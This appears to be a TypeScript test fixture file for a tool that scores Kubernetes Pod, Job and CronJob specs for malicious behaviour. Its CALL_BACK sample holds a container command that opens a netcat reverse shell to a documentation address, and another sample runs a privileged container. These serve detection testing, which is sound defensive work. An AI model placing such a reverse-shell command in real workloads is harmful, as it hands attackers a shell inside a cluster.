import type { JsonObject } from '../model/json.ts';
import type { LabelledObject } from './labels.ts';

/** A labelled object of an invented repository; each test says what is different. */
export const labelled = (id: string, object: JsonObject, label: Partial<LabelledObject> = {}): LabelledObject => ({
  kind: 'object',
  id,
  strength: 'malicious',
  group: null,
  source: 'shop/jobs',
  nameOnly: false,
  why: null,
  object,
  ...label,
});

export const podOf = (spec: JsonObject): JsonObject => ({
  apiVersion: 'v1',
  kind: 'Pod',
  metadata: { name: 'one', namespace: 'shop', labels: { app: 'one' } },
  spec,
});

export const jobOf = (spec: JsonObject): JsonObject => ({
  apiVersion: 'batch/v1',
  kind: 'Job',
  metadata: { name: 'one', namespace: 'shop' },
  spec: { template: { metadata: { annotations: { note: 'x' } }, spec } },
});

export const cronJobOf = (spec: JsonObject): JsonObject => ({
  apiVersion: 'batch/v1',
  kind: 'CronJob',
  metadata: { name: 'one', namespace: 'shop' },
  spec: { schedule: '0 4 * * *', jobTemplate: { spec: { template: { spec } } } },
});

/** Calls back to a documentation address: high. */
export const CALL_BACK: JsonObject = {
  containers: [
    { name: 'main', image: 'registry.example.com/tool:1', command: ['nc', '203.0.113.7', '4444', '-e', '/bin/sh'] },
  ],
};
/** Power without an act: medium. */
export const PRIVILEGED: JsonObject = {
  containers: [{ name: 'main', image: 'registry.example.com/tool:1', securityContext: { privileged: true } }],
};
/** Nothing to see. */
export const QUIET: JsonObject = { containers: [{ name: 'main', image: 'registry.example.com/shop/report:1.4.2' }] };
